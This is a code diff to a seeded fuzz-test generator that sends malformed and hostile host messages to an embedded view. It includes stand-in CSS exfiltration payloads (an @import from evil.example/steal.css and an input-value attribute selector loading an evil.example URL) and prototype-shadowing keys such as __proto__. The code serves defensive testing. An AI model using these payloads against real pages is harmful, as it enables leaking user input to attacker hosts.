@@ -1,5 +1,9 @@
 // A seeded generator of random and mutated inbound messages for the fuzz test: deterministic, and
-// limited to data that postMessage's structured clone can carry.
+// limited to data that postMessage's structured clone can carry. Besides well-formed messages it makes
+// the shapes a careless or hostile host sends: answers to the view's own requests (duplicated and
+// replayed), progress for requests that did or did not ask for it, requests to a slow view tool whose
+// id is then reused and cancelled, host-context keys named like Object.prototype members, variables
+// that are not custom properties, and font CSS with @import and selectors.
 
 /** mulberry32: a small, fast, seeded PRNG returning floats in [0, 1). */
 export function prng(seed: number): () => number {
@@ -19,7 +23,24 @@ const KEYS = [
   "variables", "css", "fonts", "displayMode", "availableDisplayModes", "containerDimensions", "safeAreaInsets",
   "toolInfo", "tool", "name", "locale", "__proto__", "constructor", "toString", "hasOwnProperty", "then", "valueOf",
   "--color-text-primary", "--x", "", "top", "height", "maxHeight", "width", "platform", "deviceCapabilities",
+  "isPrototypeOf", "propertyIsEnumerable", "toLocaleString", "__defineGetter__", "display", "background-image",
 ];
+/** Keys that shadow an `Object.prototype` member when set on a plain object. */
+export const PROTOTYPE_KEYS = ["toString", "valueOf", "hasOwnProperty", "__proto__", "constructor", "isPrototypeOf", "toLocaleString"];
+/** Inline properties that are not custom properties: a host must never set them on `<html>`. */
+const NOT_CUSTOM = ["display", "background-image", "pointer-events", "position", "color-scheme", "-x", "—x", " --x", "--"];
+const FONT_CSS = [
+  `@font-face { font-family: "A"; src: url(https://fonts.example/a.woff2); }`,
+  `@import url(https://evil.example/steal.css);`,
+  `@import "https://fonts.example/a.css"; @font-face { font-family: B; src: local(B); }`,
+  `input[value^="a"] { background: url(https://evil.example/a); }`,
+  `@font-face { font-family: C; src: url(x) } html { display: none }`,
+  `@media all { @font-face { font-family: D; } }`,
+  `@font-face { font-family: "E"; /* } body { color: red */ }`,
+  `@import url(https://fonts.example/a.css) layer(x); @font-face {`,
+];
+/** Ids of requests to the slow view tool, reused on purpose: in flight, again, cancelled. */
+export const SLOW_IDS = ["slow-1", "slow-2", 5000, 5001];
 const METHODS = [
   "ui/notifications/tool-input", "ui/notifications/tool-input-partial", "ui/notifications/tool-result",
   "ui/notifications/tool-cancelled", "ui/notifications/host-context-changed", "ui/resource-teardown", "ping",
@@ -32,6 +53,10 @@ const STRINGS = ["", "2.0", "1.0", "hello", "dark", "light", "blue", "inline", "
 
 export class Fuzzer {
   readonly #random: () => number;
+  /** The ids of the view's own requests, for answers and progress; the test adds them as it sees them. */
+  readonly ownIds: number[] = [];
+  /** Recent well-formed messages, replayed as they were. */
+  readonly #recent: Array<Record<string, unknown>> = [];
   constructor(seed: number) {
     this.#random = prng(seed);
   }
@@ -84,8 +109,20 @@ export class Fuzzer {
     return out;
   }
 
-  /** A well-formed host → view message. */
+  /**
+   * A well-formed host → view message: a plain one, one of the hostile shapes, or (a replay) one
+   * sent before.
+   */
   valid(): Record<string, unknown> {
+    const roll = this.#random();
+    if (roll < 0.1 && this.#recent.length) return this.pick(this.#recent);
+    const message = roll < 0.4 ? this.#plain() : this.#hostile();
+    this.#recent.push(message);
+    if (this.#recent.length > 20) this.#recent.shift();
+    return message;
+  }
+
+  #plain(): Record<string, unknown> {
     const note = (method: string, params?: unknown) => (params === undefined ? { jsonrpc: "2.0", method } : { jsonrpc: "2.0", method, params });
     const id = this.chance(0.5) ? this.int(1000) : `r${this.int(1000)}`;
     const templates: Array<() => Record<string, unknown>> = [
@@ -106,6 +143,36 @@ export class Fuzzer {
       () => ({ jsonrpc: "2.0", id, error: { code: -32000, message: "denied" } }),
     ];
     return this.pick(templates)();
+  }
+
+  #hostile(): Record<string, unknown> {
+    const note = (method: string, params: unknown) => ({ jsonrpc: "2.0", method, params });
+    // Mostly one of the view's latest requests (likely still pending), else any id.
+    const own = () => (this.ownIds.length && this.chance(0.8) ? this.pick(this.ownIds.slice(-4)) : this.int(1000));
+    const slow = () => this.pick(SLOW_IDS);
+    const context = (params: Record<string, unknown>) => note("ui/notifications/host-context-changed", params);
+    const templates: Array<() => Record<string, unknown>> = [
+      () => ({ jsonrpc: "2.0", id: own(), result: { n: this.int(9) } }),
+      () => ({ jsonrpc: "2.0", id: own(), error: { code: this.pick([-32603, -32000, 1]), message: "no" } }),
+      () => note("notifications/progress", { progressToken: own(), progress: this.chance(0.8) ? this.pick(NUMBERS) : this.value(0), ...(this.chance(0.5) ? { total: 10, message: "m" } : {}) }),
+      () => ({ jsonrpc: "2.0", id: slow(), method: "tools/call", params: { name: "slow", arguments: {} } }),
+      () => ({ jsonrpc: "2.0", id: slow(), method: this.pick(["ping", "tools/list", "ui/resource-teardown", "tools/call"]), params: { name: "echo", arguments: { text: "again" } } }),
+      () => note("notifications/cancelled", { requestId: slow(), reason: "fuzz" }),
+      () => ({ jsonrpc: "2.0", id: `f${this.int(1000)}`, method: "tools/call", params: { name: "faulty", arguments: {} } }),
+      () => context(this.#shadowing({ theme: this.pick(["light", "dark"]), locale: "de" })),
+      () => context({ styles: { variables: this.#shadowing({ "--color-text-primary": "red" }) }, toolInfo: { tool: this.#shadowing({ name: "t" }) } }),
+      () => context({ styles: { variables: Object.fromEntries(NOT_CUSTOM.map((name) => [name, this.pick(["none", "url(https://evil.example/x)", "fixed", "dark"])])) } }),
+      () => context({ styles: { css: { fonts: Array.from({ length: 1 + this.int(3) }, () => this.pick(FONT_CSS)).join("\n") } } }),
+    ];
+    return this.pick(templates)();
+  }
+
+  /** `base` with one to three keys named like Object.prototype members, as own enumerable properties. */
+  #shadowing(base: Record<string, unknown>): Record<string, unknown> {
+    const out = { ...base };
+    const n = 1 + this.int(3);
+    for (let i = 0; i < n; i++) Object.defineProperty(out, this.pick(PROTOTYPE_KEYS), { value: this.value(1), enumerable: true, writable: true, configurable: true });
+    return out;
   }
 
   /** A valid message with one to three random mutations, possibly deep inside. */
